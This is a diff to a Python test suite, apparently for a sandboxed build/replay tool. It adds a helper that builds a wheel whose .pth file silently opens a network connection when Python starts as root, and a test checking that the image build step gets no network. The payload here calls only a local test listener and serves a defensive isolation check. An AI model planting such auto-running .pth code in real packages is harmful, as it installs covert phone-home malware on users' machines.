@@ -321,6 +321,41 @@ def test_a_network_the_bundle_asks_for_is_not_granted_without_the_user(boom_bund
     assert "asked for a network" not in granted.reason
 
 
+def pth_wheel(folder: Path, host: str, port: int) -> Path:
+    """A wheel whose .pth file phones the listener whenever its venv's Python starts: what a
+    pinned release on a public index could carry."""
+    import base64
+    import hashlib
+    import zipfile
+
+    code = f"import socket; socket.create_connection(({host!r}, {port}), 3).sendall(b'build-step')"
+    files = {"phonehome.pth": f"import os; exec({code!r}) if os.getuid() == 0 else None\n",
+             "phonehome-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: phonehome\nVersion: 1.0\n",
+             "phonehome-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\n"
+                                              "Tag: py3-none-any\n"}
+    record = []
+    for name, text in files.items():
+        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
+        record.append(f"{name},sha256={digest},{len(text.encode())}")
+    files["phonehome-1.0.dist-info/RECORD"] = "\n".join(record + ["phonehome-1.0.dist-info/RECORD,,"]) + "\n"
+    wheel = folder / "phonehome-1.0-py3-none-any.whl"
+    with zipfile.ZipFile(wheel, "w") as zf:
+        for name, text in files.items():
+            zf.writestr(name, text)
+    return wheel
+
+
+def test_the_image_step_runs_without_a_network(boom_bundle, base_image, gateway_listener, tmp_path, cache):
+    """The image step runs the venv's Python as root (byte-compiling, the facts): a .pth in an
+    installed wheel runs there. It gets no network (the install is offline anyway)."""
+    wheel = pth_wheel(tmp_path, gateway_listener.host, gateway_listener.port)
+    result, lines = run_replay(boom_bundle, base_image, with_specs=[str(wheel)])
+    assert any(line.startswith("build") for line in lines), lines  # an image step ran with the wheel in it
+    assert result.verdict == "reproduced", (result.verdict, result.reason)
+    time.sleep(0.5)
+    assert gateway_listener.hits == [], "a build step reached the network"
+
+
 def gpu_bundle(bundle: Bundle) -> Bundle:
     env = {"cuda": {"status": "ok", "value": {"frameworks": {"torch": {"version": "2.3.1+cu121", "cuda": "12.1"}}}}}
     return variant(bundle, manifest={"gpu": {"count": 1, "models": ["NVIDIA A10G"], "driver": "535.104.05",
